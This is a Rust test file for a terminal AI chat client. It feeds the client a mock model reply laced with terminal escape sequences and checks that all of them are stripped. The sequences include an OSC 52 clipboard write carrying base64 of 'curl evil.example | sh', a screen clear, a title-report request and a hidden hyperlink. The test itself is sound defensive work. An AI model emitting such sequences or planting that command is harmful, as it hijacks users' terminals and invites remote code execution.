//! A model that tries to drive the guest's terminal. A local OpenAI-compatible server streams
//! a reply carrying an OSC 52 clipboard write, a screen clear, a title report request and an
//! OSC 8 hyperlink, split across chunks; the bytes the real `maya` writes to its terminal must
//! contain none of them, and the guest sees the plain words and a note that controls were
//! removed.

use crate::support;

use std::time::Duration;

use serde_json::json;
use support::tmux::{Tmux, maya_bin};
use wiremock::{Request, Respond, ResponseTemplate};

const T: Duration = Duration::from_secs(20);
/// base64 of "curl evil.example | sh": what the clipboard write would plant.
const PAYLOAD: &str = "Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==";

fn chunk(content: &str, finish: Option<&str>) -> String {
    let c = json!({"id": "x", "object": "chat.completion.chunk", "created": 1, "model": "m",
                   "choices": [{"index": 0, "delta": {"content": content}, "finish_reason": finish}]});
    format!("data: {c}\n\n")
}

struct Hostile;

impl Respond for Hostile {
    fn respond(&self, request: &Request) -> ResponseTemplate {
        let body: serde_json::Value = serde_json::from_slice(&request.body).unwrap();
        let greeting = body["messages"]
            .as_array()
            .and_then(|m| m.last())
            .is_none_or(|m| !m["content"].as_str().unwrap_or("").contains("clipboard"));
        let pieces: Vec<String> = if greeting {
            vec!["Welcome in.".into()]
        } else {
            // Each escape sequence is split across two deltas.
            vec![
                "Copied \u{1b}]5".into(),
                format!("2;c;{PAYLOAD}\u{7}for you. "),
                "Fresh \u{1b}[".into(),
                "2Jstart. ".into(),
                // CSI 21 t asks the terminal to type its title back; `t` is part of it.
                "Title \u{1b}[21".into(),
                "t please. ".into(),
                "Pay \u{1b}]8;;https://evil.example/\u{1b}\\here\u{1b}]8;;\u{1b}\\ now.".into(),
            ]
        };
        let mut sse = String::new();
        for p in &pieces {
            sse.push_str(&chunk(p, None));
        }
        sse.push_str(&chunk("", Some("stop")));
        sse.push_str("data: [DONE]\n\n");
        ResponseTemplate::new(200).set_body_raw(sse.into_bytes(), "text/event-stream")
    }
}

#[test]
fn terminal_control_sequences_from_a_model_never_reach_the_terminal() {
    let model = support::local_model::serve(Hostile);
    let uri = model.base_url.clone();
    let t = Tmux::new(
        120,
        40,
        &[("MAYA_PROVIDER", "openai"), ("MAYA_BASE_URL", &uri)],
    );
    t.run(maya_bin());
    t.wait_for("Welcome in.", T);

    // From here on, every byte maya writes is recorded.
    let log = t.path("pty.bytes");
    t.record_output(&log);
    t.text("what is on the clipboard tonight?");
    t.keys(&["Enter"]);
    let screen = t.wait_for("now.", T);
    for words in [
        "Copied for you.",
        "Fresh start.",
        "Title  please.",
        "Pay here now.",
    ] {
        assert!(screen.contains(words), "{words:?} missing:\n{screen}");
    }
    assert!(
        screen.contains("removed"),
        "no note about removed controls:\n{screen}"
    );
    t.keys(&["C-d"]);
    t.wait_until(T, "the shell prompt after quitting", |s| {
        s.trim_end().ends_with('$')
    });

    let bytes = std::fs::read(&log).unwrap();
    let text = String::from_utf8_lossy(&bytes);
    assert!(bytes.len() > 100, "nothing was recorded");
    assert!(text.contains("Copied"), "the reply was not recorded");
    for (what, needle) in [
        ("an OSC 52 clipboard write", "\u{1b}]52"),
        ("the clipboard payload", PAYLOAD),
        ("a screen clear", "\u{1b}[2J"),
        ("a title report request", "\u{1b}[21t"),
        ("an OSC 8 hyperlink", "\u{1b}]8;"),
        ("the hidden link target", "evil.example"),
    ] {
        assert!(!text.contains(needle), "{what} reached the terminal");
    }
}
